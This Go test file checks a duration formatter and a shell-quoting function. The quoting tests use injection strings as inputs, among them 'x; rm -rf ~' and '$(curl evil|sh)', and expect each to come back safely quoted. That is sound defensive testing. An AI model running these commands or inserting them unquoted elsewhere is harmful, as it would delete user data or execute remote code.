package render_test

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/synthient-go/synthient/cmd/synthient/internal/render"
)

func TestHumanDuration(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		d    time.Duration
		want string
	}{
		{0, "now"},
		{999 * time.Millisecond, "now"},
		{time.Second, "1 second"},
		{42 * time.Second, "42 seconds"},
		{time.Minute + 3*time.Second, "1 minute 3 seconds"},
		{5 * time.Hour, "5 hours"},
		{5*time.Hour + 59*time.Second, "5 hours"},
		{24 * time.Hour, "1 day"},
		{730*time.Hour + 46*time.Minute + 57*time.Second, "30 days 10 hours"},
		{489*time.Hour + 40*time.Minute, "20 days 9 hours"},
	} {
		t.Run(tt.d.String(), func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, tt.want, render.HumanDuration(tt.d))
		})
	}
}

func TestShellWord(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"cHJveGllczoxMjM0", "cHJveGllczoxMjM0"},
		{"a-b_c.d,e:f=g+h/i@j%k", "a-b_c.d,e:f=g+h/i@j%k"},
		{"", "''"},
		{"x; rm -rf ~", "'x; rm -rf ~'"},
		{"$(curl evil|sh)", "'$(curl evil|sh)'"},
		{"it's", `'it'\''s'`},
		{"~root", "'~root'"},
		{"a\x1bb", "'a\x1bb'"}, // the safeWriter escapes the control
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, render.ShellWord(tt.in), "render.ShellWord(%q)", tt.in)
	}
}
